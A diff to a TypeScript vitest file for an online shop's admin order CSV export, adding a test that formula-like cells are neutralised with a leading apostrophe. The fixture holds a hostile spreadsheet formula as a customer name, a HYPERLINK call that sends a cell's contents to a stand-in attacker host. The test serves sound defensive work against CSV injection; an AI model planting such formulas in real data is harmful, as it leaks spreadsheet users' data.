@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import type { AdminOrder } from '@shop/shared/schemas';
-import { ordersCsv } from '../../../src/features/orders/components/admin-orders-page';
+import { csvCell, ordersCsv } from '../../../src/features/orders/components/admin-orders-page';
 import { adminOrderState } from '../../../src/features/orders/order-status-text';
 
 // How the studio reads an order's state: the shopper's stage words, so a held order is not "Paid",
@@ -37,5 +37,27 @@ describe("an order's state in the admin", () => {
     expect(lines[1]).toBe(
       'CS-10042,"Nov 26, 2026, 2:07 PM PST","Ada ""the Countess"", Lovelace",ada@example.com,On hold,On hold: address,58.85,0.00,',
     );
+  });
+
+  it('writes a name that starts like a formula as text a spreadsheet does not run', () => {
+    const order = {
+      id: 'ord_2',
+      number: 'CS-10043',
+      status: 'paid',
+      createdAt: '2026-11-26T22:07:00.000Z',
+      customerName: '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
+      customerEmail: '@evil.example',
+      fulfilmentStatus: 'draft',
+      amounts: null,
+      totalPrice: 10,
+      refunded: 0,
+      discountCode: null,
+    } as unknown as AdminOrder;
+    const [, row] = ordersCsv([order], () => 'when').split('\r\n');
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Refund"")"`);
+    expect(row).toContain(`,'@evil.example,`);
+    for (const start of ['=', '+', '-', '@', '\t', '\r'])
+      expect(csvCell(`${start}1+1`).replace(/^"/, '')).toMatch(/^'/);
+    expect(csvCell('Ada')).toBe('Ada');
   });
 });
